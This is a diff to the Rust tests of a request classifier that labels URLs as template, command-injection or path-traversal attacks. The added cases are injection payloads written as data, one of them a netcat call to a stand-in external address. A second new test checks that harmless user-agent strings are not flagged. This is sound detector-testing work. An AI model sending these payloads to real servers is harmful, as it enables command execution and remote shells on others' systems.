@@ -217,6 +217,13 @@ mod tests {
             ("/hello?name=${7*7}", "template"),
             ("/ping?host=1.1.1.1%3Bcat%20/etc/hostname", "command"),
             ("() { :; }; /bin/bash -c id", "command"),
+            ("/ping?host=a;cat${IFS}/etc/hostname", "command"),
+            ("/ping?host=a%7Cls%20-la%20/", "command"),
+            ("/ping?host=a||ping%20-n%2021%20127.0.0.1||", "command"),
+            ("/ping?host=$(sleep%205)", "command"),
+            ("/ping?host=a;python3%20-c%20%27import%20os%27", "command"),
+            ("/ping?host=a;nc%20198.51.100.7%204444", "command"),
+            ("/ping?host=`id%20-u`", "command"),
             ("/static/..%2f..%2f..%2fetc/passwd", "traversal"),
             ("/static/..\\..\\windows\\win.ini", "traversal"),
             ("/get?page=php://filter/convert.base64-encode/resource=index", "traversal"),
@@ -260,6 +267,21 @@ mod tests {
             r#"/g?variables={"name":"O'Neill","at":"10.0.0.1"}"#,
         ] {
             assert_eq!(attack_class(text), None, "{text}");
+        }
+    }
+
+    #[test]
+    fn what_a_client_says_of_its_machine_is_no_command() {
+        for agent in [
+            "Courier/4.1 (Android 13; CAT S62)",
+            "Mozilla/5.0 (Linux; Android 11; Cat S42 Build/RP1A) AppleWebKit/537.36",
+            "transport/8.1 (linux; Python 3.11.4; http/1.1)",
+            "robot/2 (x86_64; Perl 5.30)",
+            "Mozilla/5.0 (Linux; U; Android 4.0.4; id; GT-S6102) Safari/534.30",
+            "Mozilla/5.0 (Linux; Android 9; SH 04L)",
+            "kiosk/1 (Linux; ID 5050; LS 670)",
+        ] {
+            assert_eq!(attack_class(agent), None, "{agent}");
         }
     }
 
